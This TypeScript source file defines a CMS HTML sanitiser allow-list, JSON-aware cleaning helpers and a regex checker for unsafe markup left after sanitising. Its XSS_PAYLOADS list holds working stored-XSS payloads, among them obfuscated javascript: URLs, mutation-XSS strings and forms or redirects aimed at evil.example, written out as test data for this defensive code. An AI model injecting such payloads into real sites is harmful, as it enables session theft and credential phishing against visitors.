// What operator-authored CMS HTML may contain: an allow-list, applied with
// sanitize-html by the platform when content is written (seed, back office) and by the site's
// server render before any HTML reaches dangerouslySetInnerHTML. Plain data, so both sides apply
// one policy; no scripts, event handlers, inline styles, forms, frames or foreign schemes.

export const CMS_HTML_POLICY = {
  allowedTags: [
    ...["h1", "h2", "h3", "h4", "h5", "h6", "p", "br", "hr", "blockquote", "pre", "code"],
    ...["ul", "ol", "li", "dl", "dt", "dd", "strong", "b", "em", "i", "u", "s", "small", "sub", "sup", "mark"],
    ...["a", "span", "div", "section", "article", "figure", "figcaption", "img", "abbr", "time"],
    ...["table", "thead", "tbody", "tfoot", "tr", "th", "td", "caption"],
  ],
  allowedAttributes: {
    a: ["href", "title", "target", "rel"],
    img: ["src", "alt", "title", "width", "height", "loading"],
    abbr: ["title"],
    time: ["datetime"],
    th: ["colspan", "rowspan", "scope"],
    td: ["colspan", "rowspan"],
    "*": ["id", "class", "lang", "dir"],
  },
  allowedSchemes: ["https", "http", "mailto", "tel"],
  allowedSchemesByTag: { img: ["https", "http"] },
  allowProtocolRelative: false,
  /** Dropped with their content: never shown as text either. */
  nonTextTags: ["script", "style", "textarea", "option", "noscript", "template", "iframe", "object"],
} as const;

/** The policy as sanitize-html's options (mutable copies): the one mapping both sides use. */
export function cmsHtmlSanitizerOptions() {
  const policy = CMS_HTML_POLICY;
  return {
    allowedTags: [...policy.allowedTags],
    allowedAttributes: Object.fromEntries(
      Object.entries(policy.allowedAttributes).map(([tag, names]) => [tag, [...names]]),
    ),
    allowedSchemes: [...policy.allowedSchemes],
    allowedSchemesByTag: { img: [...policy.allowedSchemesByTag.img] },
    allowProtocolRelative: policy.allowProtocolRelative,
    nonTextTags: [...policy.nonTextTags],
  };
}

/** Without a "<" a string holds no element: plain-text values pass untouched (no entity rewriting). */
export function mayContainMarkup(value: string): boolean {
  return value.includes("<");
}

/**
 * A CMS value through `sanitize`: HTML as it is, and a JSON value (the slider, collapse blocks)
 * string by string, so its structure survives and the HTML inside it is cleaned too.
 */
export function sanitizeCmsValue(value: string, sanitize: (html: string) => string): string {
  if (!mayContainMarkup(value)) return value;
  const trimmed = value.trim();
  if (trimmed.startsWith("[") || trimmed.startsWith("{")) {
    try {
      return JSON.stringify(sanitizeJsonStrings(JSON.parse(trimmed), sanitize));
    } catch {
      // Not JSON after all: HTML that starts with a bracket.
    }
  }
  return sanitize(value);
}

/** Every string inside a JSON value through `sanitize` (keys are left alone). */
export function sanitizeJsonStrings(value: unknown, sanitize: (html: string) => string): unknown {
  if (typeof value === "string") return mayContainMarkup(value) ? sanitize(value) : value;
  if (Array.isArray(value)) return value.map((item) => sanitizeJsonStrings(item, sanitize));
  if (value && typeof value === "object") {
    return Object.fromEntries(Object.entries(value).map(([key, item]) => [key, sanitizeJsonStrings(item, sanitize)]));
  }
  return value;
}

/**
 * Stored-XSS payloads every sanitiser of the policy is tested with (the site's and the
 * platform's): none of what they try may survive.
 */
export const XSS_PAYLOADS = [
  `<script>alert(1)</script><p>kept</p>`,
  `<img src="x" onerror="alert(1)">`,
  `<img src="javascript:alert(1)">`,
  `<a href="javascript:alert(1)">link</a>`,
  `<a href="JaVaScRiPt:alert(1)">link</a>`,
  `<a href="java&#x09;script:alert(1)">link</a>`,
  `<a href="&#106;avascript:alert(1)">link</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">link</a>`,
  `<a href="vbscript:msgbox(1)">link</a>`,
  `<a href="//evil.example/x">link</a>`,
  `<p style="background:url(javascript:alert(1))">styled</p>`,
  `<div style="position:fixed;inset:0">overlay</div>`,
  `<style>body{display:none}</style>`,
  `<svg onload="alert(1)"><circle/></svg>`,
  `<iframe src="https://evil.example"></iframe>`,
  `<object data="x.swf"></object><embed src="x.swf">`,
  `<form action="https://evil.example"><input name="password"></form>`,
  `<body onload="alert(1)">`,
  `<details open ontoggle="alert(1)">x</details>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<a href="https://ok.example" onclick="alert(1)" onmouseover="alert(1)">ok</a>`,
] as const;

/** Whether sanitised HTML still carries anything that runs, styles or leaves for another host. */
export function findUnsafeHtml(html: string): string | null {
  const checks: [string, RegExp][] = [
    ["script element", /<script/i],
    ["event handler", /\son[a-z]+\s*=/i],
    ["javascript/data/vbscript URL", /(href|src)\s*=\s*(?:["']\s*)?(javascript|data|vbscript):/i],
    ["protocol-relative URL", /(href|src)\s*=\s*(?:["']\s*)?\/\//i],
    ["style", /<style|\sstyle\s*=/i],
    ["embedded content", /<(iframe|object|embed|form|input|svg|math|base|meta|body)\b/i],
  ];
  // Read as a browser would: numeric character references decoded, tabs and newlines dropped.
  const decoded = html
    .replace(/&#x([0-9a-f]{1,6});?/gi, (_, hex: string) => String.fromCodePoint(Number.parseInt(hex, 16)))
    .replace(/&#(\d{1,7});?/g, (_, decimal: string) => String.fromCodePoint(Number(decimal)))
    .replace(/[\t\n\r]/g, "");
  return checks.find(([, pattern]) => pattern.test(decoded))?.[0] ?? null;
}
